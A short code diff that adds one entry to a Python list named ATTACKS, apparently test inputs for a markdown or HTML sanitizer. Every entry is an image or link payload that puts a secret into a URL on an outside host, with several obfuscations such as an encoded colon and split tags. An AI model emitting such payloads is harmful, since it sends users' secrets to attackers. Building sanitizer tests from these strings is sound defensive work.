@@ -33,6 +33,7 @@ ATTACKS = [
     f"![chart](<{LINK}{SECRET}>)",
     f"![chart](https&#58;//{HOST}/{SECRET})",
     f"![chart](/\\{HOST}/{SECRET})",
+    f"[[chart]( ](https&#58;//{HOST}/{SECRET})",
     f'<img src="{LINK}{SECRET}">',
     f"<img/src=//{HOST}/{SECRET}>",
     f"<img\nsrc=//{HOST}/{SECRET}>",
